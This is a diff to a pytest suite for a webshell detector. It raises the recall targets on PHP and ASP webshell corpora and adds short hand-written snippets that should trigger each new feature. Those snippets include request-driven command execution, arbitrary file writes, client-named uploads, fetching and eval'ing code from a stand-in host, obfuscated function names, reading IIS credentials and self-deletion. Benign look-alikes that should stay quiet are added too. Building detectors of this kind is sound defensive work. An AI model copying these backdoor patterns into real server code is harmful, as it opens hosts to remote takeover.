@@ -140,22 +140,24 @@ def _is_webshell(item: tuple[bytes, str]) -> bool:
     return assess(*item).is_webshell
 
 
-# Floors: recall measured now (php 88.4 %, asp 78.4 %) minus 1 point; the targets are the issue's.
+# Issue-3 target: recall >= 90 % on each folder. Floors: recall measured now (php 96.5 %, asp
+# 90.2 % = 46/51, every sample with server-side code) minus about 1 point, never below the target.
+RECALL_TARGET = 0.90
+
+
 @pytest.mark.parametrize(
     ("folder", "floor"),
     [
-        ("php", 0.87),
-        ("asp", 0.77),
+        ("php", 0.95),
+        ("asp", 0.90),
     ],
 )
-def test_corpus_recall_floor(folder: str, floor: float) -> None:
+def test_corpus_recall_meets_target(folder: str, floor: float) -> None:
     files = list(web_files(sorted(shared(f"webshells/tennc-webshell/{folder}").rglob("*"))))
     assert len(files) > 40
     flags = _flags(files)
     recall = sum(flags) / len(flags)
-    assert recall >= floor, f"{folder}/: recall {recall:.1%} over {len(flags)} files"
-    if recall < 0.9:
-        pytest.xfail(f"issue-3 target recall >= 90% not met yet on {folder}/: {recall:.1%}")
+    assert recall >= max(floor, RECALL_TARGET), f"{folder}/: recall {recall:.1%} over {len(flags)}"
 
 
 def test_benign_web_roots_false_positives() -> None:
@@ -173,3 +175,172 @@ def test_benign_web_roots_false_positives() -> None:
     flags = _flags(files)
     per_1000 = 1000 * sum(flags) / len(flags)
     assert per_1000 <= 1.0, f"{sum(flags)} false positives in {len(flags)} benign web files"
+
+
+# --- features added for the 90 % targets: one hand-written snippet each ------------------------
+
+NEW_FEATURES: dict[str, tuple[str, bytes]] = {
+    # PHP helper whose parameter reaches popen(), called with request data.
+    "helper_php": (
+        "request_to_sink",
+        b'<?php function run($c) { $h = popen($c, "r"); return fread($h, 4096); }\n'
+        b"echo run($_POST['q']); ?>",
+    ),
+    # VBScript helper around WScript.Shell .Exec.
+    "helper_vbs": (
+        "request_to_sink",
+        b'<%\nSet sh = Server.CreateObject("WScript.Shell")\nFunction Out(c)\n'
+        b"  Set e = sh.Exec(c)\n  Out = e.StdOut.ReadAll\nEnd Function\n"
+        b'x = Request.Form("q")\nResponse.Write Out(x)\n%>',
+    ),
+    # C# helper handing a parameter to a Process through StartInfo.
+    "helper_cs": (
+        "request_to_sink",
+        b'<%@ Page Language="C#" %><script runat="server">\n'
+        b'void Page_Load(object s, EventArgs e) {\n  string c = Request.Form["c"];\n'
+        b"  Response.Write(Run(c));\n}\n"
+        b"private string Run(string arg) {\n  Process p = new Process();\n"
+        b"  p.StartInfo.FileName = arg;\n  p.Start();\n  return p.StandardOutput.ReadToEnd();\n}"
+        b"\n</script>",
+    ),
+    # VBScript helper writing content to a path, both from the request.
+    "helper_write": (
+        "request_file_write",
+        b'<%\nFunction Put(p, t)\n  Set s = CreateObject("ADODB.Stream")\n  s.Open\n'
+        b"  s.WriteText t\n  s.SaveToFile p, 2\nEnd Function\n"
+        b'Put Request("where"), Request("what")\n%>',
+    ),
+    "php_fopen_write": (
+        "request_file_write",
+        b'<?php $f = fopen($_POST["name"], "w"); fwrite($f, $_POST["body"]); ?>',
+    ),
+    "upload_client_name": (
+        "upload_client_name",
+        b"<?php copy($_FILES['u']['tmp_name'], $_FILES['u']['name']); ?>",
+    ),
+    "remote_code": (
+        "remote_code",
+        b"<?php $u = 'http://example.invalid/x.txt'; $s = file_get_contents($u); eval($s); ?>",
+    ),
+    "call_result_call": (
+        "call_result_call",
+        b"<?php trim(' system ')($_GET['c']); ?>",
+    ),
+    "eval_decoded_var": (
+        "eval_decoded_var",
+        b"<?php function my_decode($s) { return strrev($s); }\n"
+        b"$this_code = my_decode('lmx'); eval($this_code); ?>",
+    ),
+    "preg_e_from_chr": (
+        "preg_replace_e",
+        b"<?php preg_replace(chr(47) . 'x' . chr(47) . chr(101), $_POST['c'], 'x'); ?>",
+    ),
+    "not_strings": (
+        "not_strings",
+        b"<?php $n = ''; $n .= ~$a[1]; $n .= ~$b[2]; ?>",
+    ),
+    "pack_codes": (
+        "hidden_function_name",
+        b"<?php $f = pack('c*', 0x73, 0x79, 0x73, 0x74, 0x65, 0x6d); ?>",
+    ),
+    "function_table": (
+        "function_table",
+        b"<?php $t = explode(',', 'a,b,c,d'); $t[0]($_GET['a']); $t[1]('x'); $t[2]('y'); ?>",
+    ),
+    "hash_gate": (
+        "hash_gate",
+        b"<?php if (md5($_GET['k']) == '0123456789abcdef0123456789abcdef') { echo 1; } ?>",
+    ),
+    "fragment_callback": (
+        "request_to_callback",
+        b'<?php $r = array_diff(["as", "x", "se", "rt"], ["x"]); $f = join($r);'
+        b" array_map($f, (array) $_REQUEST['c']); ?>",
+    ),
+    "xslt_msxsl": (
+        "xslt_script",
+        b'<% x = "<msxsl:script language=""JScript"" implements-prefix=""u"">'
+        b"function f(c){ return new ActiveXObject('WScript.Shell').Exec(c); }"
+        b'</msxsl:script>" %>',
+    ),
+    "xslt_php": (
+        "xslt_script",
+        b"<?php $p = new XSLTProcessor(); $p->registerPHPFunctions();"
+        b" $x = '<xsl:value-of select=\"php:function(\\'system\\', string(.))\"/>'; ?>",
+    ),
+    "write_and_run": (
+        "write_and_run",
+        b'<%\nSet f = fso.CreateTextFile("c:\\temp\\a.vbs", True)\nf.Write "x"\n'
+        b'sh.Run "c:\\temp\\a.vbs", 0, False\n%>',
+    ),
+    "hides_files": (
+        "hides_files",
+        b'<% Set f = fso.GetFile(Server.MapPath("x.asp")) : f.Attributes = 6 %>',
+    ),
+    "iis_credentials": (
+        "iis_credentials",
+        b'<?php $s = new COM("IIS://localhost/w3svc/1/Root"); echo $s->AnonymousUserPass; ?>',
+    ),
+    "self_delete": (
+        "self_delete",
+        b"<?php ignore_user_abort(true); unlink(__FILE__); while (true) { sleep(5); } ?>",
+    ),
+    "image_header": (
+        "image_header",
+        b"GIF89a\n<?php echo 1; ?>",
+    ),
+    "request_file_ops": (
+        "request_file_ops",
+        b"<?php unlink($_POST['a']); rmdir($_POST['b']); rename($_POST['c'], $_POST['d']);"
+        b" chmod($_POST['e'], 0755); ?>",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(NEW_FEATURES))
+def test_new_features_fire_with_a_reason(case: str) -> None:
+    feature, snippet = NEW_FEATURES[case]
+    name = "x.asp" if snippet.startswith(b"<%") else "x.aspx" if b"C#" in snippet else "x.php"
+    verdict = assess(snippet, name)
+    assert verdict.features.get(feature), (case, verdict.features, verdict.reasons)
+    assert verdict.reasons
+
+
+@pytest.mark.parametrize(
+    ("snippet", "name"),
+    [
+        # A helper whose callback is a literal name, called with request data: not a shell.
+        (
+            b"<?php function show($cb, ...$a) { return call_user_func_array($cb, $a); }\n"
+            b"show('render_form', $_GET['type']); ?>",
+            "form.php",
+        ),
+        # An upload saved under a server-chosen, sanitised name.
+        (
+            b"<?php $n = uniqid() . '.jpg'; move_uploaded_file($_FILES['f']['tmp_name'],"
+            b" '/srv/up/' . $n); ?>",
+            "up.php",
+        ),
+        # A browser-side JavaScript helper with eval() is not a server-side sink.
+        (
+            b"<script>function show(a) { eval(a); }</script>\n"
+            b"<?php $q = $_GET['q']; ?><a onclick=\"show('<?php echo $q; ?>')\">x</a>",
+            "page.php",
+        ),
+        # A template engine evaluating a local compiled template is not remote code.
+        (b"<?php $t = file_get_contents($cache . '/page.tpl.php'); eval('?>' . $t); ?>", "t.php"),
+        # A checked upload (type looked at) under the client's name stays below the threshold.
+        (
+            b"<?php $n = 'up/' . basename($_FILES['f']['name']);"
+            b" if (in_array(pathinfo($n, PATHINFO_EXTENSION), ['jpg', 'png'])) {"
+            b" move_uploaded_file($_FILES['f']['tmp_name'], $n . $_FILES['f']['name']); } ?>",
+            "u.php",
+        ),
+        # preg_replace with a built pattern whose modifiers do not include e.
+        (b"<?php preg_replace('/' . $w . '/i', '', $_GET['s']); ?>", "s.php"),
+        # One request-named file operation (a download page) is not a file manager.
+        (b"<?php readfile(basename($_GET['f'])); ?>", "dl.php"),
+    ],
+)
+def test_new_features_stay_quiet_on_benign_code(snippet: bytes, name: str) -> None:
+    verdict = assess(snippet, name)
+    assert not verdict.is_webshell, verdict.reasons
